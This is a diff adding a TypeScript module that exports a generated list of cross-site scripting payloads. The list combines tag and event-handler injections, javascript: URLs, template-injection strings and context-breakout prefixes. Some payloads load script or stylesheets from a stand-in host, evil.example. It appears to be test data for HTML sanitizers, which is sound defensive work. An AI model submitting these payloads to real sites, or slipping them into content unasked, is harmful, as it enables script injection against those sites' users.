@@ -1,0 +1,53 @@
+/** What people have tried on pages that print other people's words. Each calls alert, or loads something, if it runs. */
+const TAGS = [
+	"<script>alert(1)</script>",
+	"<script src=//evil.example/x.js></script>",
+	"<img src=x onerror=alert(1)>",
+	"<img/src='x'/onerror=alert(1)>",
+	"<svg onload=alert(1)>",
+	"<svg/onload=alert(1)//",
+	"<svg><script>alert(1)</script></svg>",
+	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+	"<body onload=alert(1)>",
+	"<iframe src=javascript:alert(1)>",
+	"<iframe srcdoc='<script>parent.alert(1)</script>'>",
+	"<object data=javascript:alert(1)>",
+	"<embed src=javascript:alert(1)>",
+	"<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
+	"<input autofocus onfocus=alert(1)>",
+	"<details open ontoggle=alert(1)>",
+	"<video><source onerror=alert(1)>",
+	"<audio src=x onerror=alert(1)>",
+	"<marquee onstart=alert(1)>",
+	"<math><mtext><script>alert(1)</script></mtext></math>",
+	"<template><script>alert(1)</script></template>",
+	"<style>@import '//evil.example/x.css';</style>",
+	"<link rel=stylesheet href=//evil.example/x.css>",
+	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+	"<base href=//evil.example/>",
+	"<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>",
+];
+const BREAKOUTS = [
+	"",
+	'">',
+	"'>",
+	"</title>",
+	"</style>",
+	"</textarea></script>",
+	"-->",
+	"]]>",
+	"&quot;&gt;",
+	"\u2028\u0000",
+];
+const LONE = [
+	"javascript:alert(1)",
+	"{{constructor.constructor('alert(1)')()}}",
+	"$".concat("{alert(1)}"),
+	"' onmouseover='alert(1)",
+	'" onfocus="alert(1)" autofocus="',
+	"<!--freshness--><script>alert(1)</script>",
+	"$&$`$'<script>alert(1)</script>",
+	"\ud800<script>alert(1)</script>",
+];
+
+export const XSS: string[] = [...LONE, ...BREAKOUTS.flatMap((out) => TAGS.map((tag) => out + tag))];
